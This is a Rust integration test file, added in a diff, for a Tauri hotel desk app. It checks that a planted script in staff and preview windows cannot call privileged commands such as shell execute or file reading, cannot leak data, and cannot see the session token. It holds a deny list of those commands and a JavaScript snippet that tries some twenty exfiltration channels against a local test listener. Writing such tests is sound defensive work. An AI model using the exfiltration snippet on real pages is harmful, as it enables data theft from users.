@@ -1,0 +1,230 @@
+//! A script that should not be there: what it can ask the program for, and where it can send what it has seen.
+
+use std::{
+    net::Ipv4Addr,
+    sync::{
+        Arc,
+        atomic::{AtomicUsize, Ordering},
+    },
+};
+
+use serde_json::{Value, json};
+use tokio::net::TcpListener;
+
+use crate::{
+    scene::{DESK, hotel, offer_from_elsewhere},
+    support::{Console, Window, Workstation, keys::ctrl},
+};
+
+const PERMISSIONS: &str = include_str!("../../src-tauri/permissions/staff.toml");
+
+/// What Tauri and its plugins offer to pages that are granted it. None of ours is.
+const NEVER_GRANTED: &[&str] = &[
+    "plugin:app|version",
+    "plugin:app|set_app_theme",
+    "plugin:event|emit",
+    "plugin:event|emit_to",
+    "plugin:image|from_path",
+    "plugin:menu|new",
+    "plugin:path|resolve_directory",
+    "plugin:resources|close",
+    "plugin:tray|new",
+    "plugin:webview|create_webview_window",
+    "plugin:webview|set_webview_zoom",
+    "plugin:webview|internal_toggle_devtools",
+    "plugin:window|create",
+    "plugin:window|destroy",
+    "plugin:window|set_title",
+    "plugin:window-state|save_window_state",
+    "plugin:fs|read_file",
+    "plugin:http|fetch",
+    "plugin:shell|execute",
+    "plugin:opener|open_url",
+    "plugin:process|exit",
+    "no_such_command",
+];
+
+/// Calls each command and keeps what came of it.
+const CALL: &str = "(window.refusals = {}, args.forEach((name) =>
+    window.__TAURI_INTERNALS__.invoke(name, {}).then(() => (refusals[name] = 'granted'), (error) => (refusals[name] = JSON.stringify(error)))), true)";
+
+/// Every way out of a page that there is.
+const SEND: &str = "((to) => {
+    window.violations = [];
+    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
+    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
+    const attempts = [
+      () => fetch(to + 'fetch').catch(() => 0),
+      () => fetch(to + 'fetch', { mode: 'no-cors', method: 'POST', body: 'seen' }).catch(() => 0),
+      () => { const request = new XMLHttpRequest(); request.open('GET', to + 'xhr'); request.send(); },
+      () => navigator.sendBeacon(to + 'beacon', 'seen'),
+      () => new WebSocket(to.replace('http', 'ws') + 'socket'),
+      () => new EventSource(to + 'events'),
+      () => new Worker(to + 'worker'),
+      () => import(to + 'module.js').catch(() => 0),
+      () => add('img', { src: to + 'image' }),
+      () => add('script', { src: to + 'script' }),
+      () => add('link', { rel: 'stylesheet', href: to + 'style' }),
+      () => add('link', { rel: 'prefetch', href: to + 'prefetch' }),
+      () => add('iframe', { src: to + 'frame' }),
+      () => add('object', { data: to + 'object' }),
+      () => add('embed', { src: to + 'embed' }),
+      () => add('video', { src: to + 'video', autoplay: true }),
+      () => add('style', { textContent: `body { background: url(${to}background) }` }),
+      () => { const form = document.createElement('form'); form.action = to + 'form'; document.body.append(form); form.submit(); },
+      () => window.open(to + 'window'),
+      () => { location.href = to + 'location'; },
+      () => { const link = document.createElement('a'); link.href = to + 'link'; document.body.append(link); link.click(); },
+    ];
+    for (const attempt of attempts) try { attempt(); } catch {}
+    return attempts.length;
+})(args[0])";
+
+/// Whoever comes here was let out.
+struct Outside {
+    address: String,
+    visits: Arc<AtomicUsize>,
+}
+
+impl Outside {
+    async fn open() -> Self {
+        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))
+            .await
+            .expect("the loopback has a port");
+        let port = listener.local_addr().expect("it has an address").port();
+        let visits = Arc::new(AtomicUsize::new(0));
+        let seen = Arc::clone(&visits);
+        // It ends with the test's runtime.
+        tokio::spawn(async move {
+            while listener.accept().await.is_ok() {
+                seen.fetch_add(1, Ordering::Relaxed);
+            }
+        });
+        Self {
+            address: format!("http://127.0.0.1:{port}/"),
+            visits,
+        }
+    }
+}
+
+/// The commands of a permission.
+fn granted(permission: &str) -> Vec<String> {
+    let part = PERMISSIONS
+        .split("[[permission]]")
+        .find(|part| part.contains(&format!("identifier = \"{permission}\"")))
+        .expect("there is such a permission");
+    let list = part.split('[').nth(1).and_then(|rest| rest.split(']').next());
+    list.expect("it lists commands")
+        .split(',')
+        .map(|name| name.trim().trim_matches('"').to_owned())
+        .filter(|name| !name.is_empty())
+        .collect()
+}
+
+async fn assert_refused(window: &Window, names: &[String]) {
+    let asked = names.iter().map(|name| json!(name)).collect();
+    window.ask(CALL, asked).await;
+    let refusals = window
+        .until("an answer to each", "window.refusals", &[], |answer| {
+            answer
+                .as_object()
+                .filter(|answers| answers.len() == names.len())
+                .cloned()
+        })
+        .await;
+    for (name, answer) in refusals {
+        let words = answer.as_str().unwrap_or_default();
+        assert!(
+            words.contains("not allowed") || words.contains("not found"),
+            "{name}: {words}"
+        );
+    }
+}
+
+async fn assert_kept_in(window: &Window, outside: &Outside) {
+    let attempts = window.ask(SEND, vec![json!(outside.address)]).await;
+    assert!(attempts.as_u64() > Some(20), "{attempts}");
+    let refused = "['connect-src', 'img-src', 'script-src-elem', 'frame-src', 'form-action'].every((rule) => window.violations.includes(rule))";
+    window.until_true("the policy to refuse", refused, &[]).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_script_in_a_staff_window_gets_no_command_but_ours_and_sends_nothing_anywhere() {
+    let hotel = hotel(1).await;
+    let station = Workstation::at(&hotel, "desk");
+    let desk = station.sign_in(DESK).await;
+    let window = desk.window();
+    let names: Vec<String> = NEVER_GRANTED.iter().map(|name| (*name).to_owned()).collect();
+    assert_refused(window, &names).await;
+
+    let outside = Outside::open().await;
+    assert_kept_in(window, &outside).await;
+    // What comes later on the same way has arrived, in the window that is still there.
+    offer_from_elsewhere(&hotel.control(), "Nobody has gone anywhere").await;
+    window.wait_for_synced("Nobody has gone anywhere").await;
+    assert_eq!(outside.visits.load(Ordering::Relaxed), 0, "nothing got out");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_script_in_the_preview_gets_nothing_that_changes_and_sends_nothing_anywhere() {
+    let hotel = hotel(1).await;
+    let station = Workstation::at(&hotel, "desk");
+    let desk = station.sign_in(DESK).await;
+    let preview = preview(&desk).await;
+    let may = granted("preview");
+    let mut names = granted("staff");
+    assert!(names.len() > 40 && may.len() == 4, "{names:?} {may:?}");
+    names.retain(|name| !may.contains(name));
+    names.extend(NEVER_GRANTED.iter().map(|name| (*name).to_owned()));
+    assert_refused(&preview, &names).await;
+
+    let outside = Outside::open().await;
+    assert_kept_in(&preview, &outside).await;
+    offer_from_elsewhere(&hotel.control(), "Nobody has gone anywhere").await;
+    let shown = "document.body.innerText.includes('Nobody has gone anywhere')";
+    preview.until_true("the preview to go on", shown, &[]).await;
+    assert_eq!(outside.visits.load(Ordering::Relaxed), 0, "nothing got out");
+}
+
+async fn preview(desk: &Console) -> Window {
+    let preview = desk
+        .window_after(async || desk.window().press(&ctrl('g')).await)
+        .await;
+    preview.wait_for("preview-page").await;
+    preview
+}
+
+/// Whether any value in an answer holds this text.
+fn holds(value: &Value, text: &str) -> bool {
+    value.to_string().contains(text)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn neither_the_token_nor_the_password_is_anywhere_in_the_page_or_in_an_answer() {
+    let hotel = hotel(1).await;
+    let station = Workstation::at(&hotel, "desk");
+    let desk = crate::scene::signed_in_for_good(&hotel, &station, DESK).await;
+    let token = crate::scene::kept_token(&hotel, DESK).await;
+    let window = desk.window();
+    // Everything that can be asked without saying more.
+    let answers = "Promise.all(['snapshot', 'sign_in_form', 'drafts', 'deleted_offers', 'time_zones', 'guest_preview', 'known_update', 'take_link']
+        .map((name) => window.__TAURI_INTERNALS__.invoke(name, {}).catch((error) => error)))
+        .then((answers) => done(answers))";
+    let script = format!("const [done] = arguments; {answers};");
+    let answers = window.run_async(&script, vec![]).await.expect("answers");
+    let page = window
+        .ask(
+            "[document.documentElement.outerHTML, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie,
+              ...[...document.querySelectorAll('input')].map((field) => field.value)]",
+            vec![],
+        )
+        .await;
+    for (what, value) in [("answers", &answers), ("page", &page)] {
+        assert!(!holds(value, &token), "the {what} hold the token");
+    }
+    assert!(holds(&answers, DESK), "they were given: {answers}");
+    let fields = window
+        .ask("document.querySelectorAll('input[type=password]').length", vec![])
+        .await;
+    assert_eq!(fields, 0, "no password is left standing");
+}
